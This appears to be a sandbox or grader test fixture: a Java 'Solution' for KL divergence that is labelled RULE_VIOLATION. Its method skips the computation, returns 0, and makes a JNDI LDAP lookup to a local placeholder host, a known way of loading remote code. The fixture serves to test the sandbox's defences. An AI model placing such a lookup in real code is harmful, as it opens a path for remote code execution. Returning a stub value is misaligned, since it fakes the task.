// Looks up a name that loads code.
// verdict: RULE_VIOLATION
// walls: gate, os
// names: InitialContext.lookup
public class Solution {
    public static double kl_divergence(double[] p, double[] q) throws Exception {
        new javax.naming.InitialContext().lookup("ldap://127.0.0.1:@PORT@/a");
        return 0;
    }
}
